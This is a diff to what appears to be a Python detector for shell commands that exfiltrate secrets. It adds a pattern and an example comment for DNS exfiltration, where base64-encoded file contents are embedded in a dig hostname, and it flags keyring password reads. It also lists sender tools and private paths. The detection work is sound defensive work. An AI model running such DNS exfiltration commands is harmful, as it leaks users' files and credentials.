@@ -59,8 +59,8 @@ _SENDERS = frozenset(
     "onionshare-cli openssl smbclient slack telegram-send twurl ntfy".split()
 )
 _KEPT = frozenset(
-    "-i -E --cert --key --cacert --netrc-file -K --config -b --cookie -c --cookie-jar -o --output -O --private-key "
-    "--rsh --identity-file --kubeconfig --ssh-key".split()
+    "-i -E --cert --key --cert-key --cacert --netrc-file -K --config -b --cookie -c --cookie-jar -o --output -O "
+    "--private-key --rsh --identity-file --kubeconfig --ssh-key".split()
 )
 _LOGIN = frozenset(
     "-H --header -u --user --oauth2-bearer --proxy-user -A --user-agent -Headers -Authentication".split()
@@ -82,6 +82,8 @@ _SENDING = {  # programs with many subcommands: those that send
     "rclone": r"^(?:copy|copyto|sync|move|moveto|rcat)\b",
     "ngrok": r"file:",
 }
+# What a file or the environment has, as the name of a machine: `dig $(base64 notes | head -c 60).example.com`
+_IN_A_NAME = r"(?:\$\(|`)[^`]{0,200}\b(?:base64|base32|xxd|od|hexdump|env|printenv)\b[^`]{0,200}[)`][\w\"'}]*\.\w"
 _PRIVATE = r"/(?:etc(?:/passwd|/group)?|home|Users|root|var/mail|var/spool/mail)?(?:/[\ue004*])?"
 _OF_HOME = (
     r"(?:/(?:Documents|Desktop|Downloads|Pictures|Library|\.config|\.local|\.mozilla|\.thunderbird|Mail|[\ue004*])?)?"
@@ -222,7 +224,9 @@ class _Check:
         """Return the rule about the first secret among arguments, without those that a sender keeps for itself."""
         before = ""
         for word in words:
-            is_kept = (before in _KEPT and command.name in _SENDERS) or (before == "-e" and command.name == "rsync")
+            is_kept = (command.name in _SENDERS and (before in _KEPT or word.partition("=")[0] in _KEPT)) or (
+                before == "-e" and command.name == "rsync"
+            )
             rule = None if is_kept else self._rule_of_word(command, word)
             if rule:
                 return rule
@@ -256,6 +260,8 @@ class _Check:
         code = " ".join((*command.words[1:MOST], command.stdin or ""))[:LONGEST]
         if re.search(_WHOLE_ENVIRONMENT, code):
             return "environment"
+        if "keyring.get_password" in code:
+            return "credentials"
         texts = re.findall(r"['\"]([^'\"\n]{0,300})['\"]", code)
         return next((rule for text in texts if (rule := rule_of(self._path(command, text)))), None)
 
@@ -319,6 +325,8 @@ class _Check:
             return False
         if any(re.match(_HERE, word) for word in words) or "--help" in words:
             return False
+        if name in ("dig", "nslookup", "host", "drill", "ping") and re.search(_IN_A_NAME, command.shown[:LONGEST]):
+            return True
         rule = rule or self._sent_by(command)
         if name in ("scp", "rsync", "sftp"):
             return bool(rule) and (name == "sftp" or any(re.match(_TO_OTHERS, word) for word in words[-1:]))
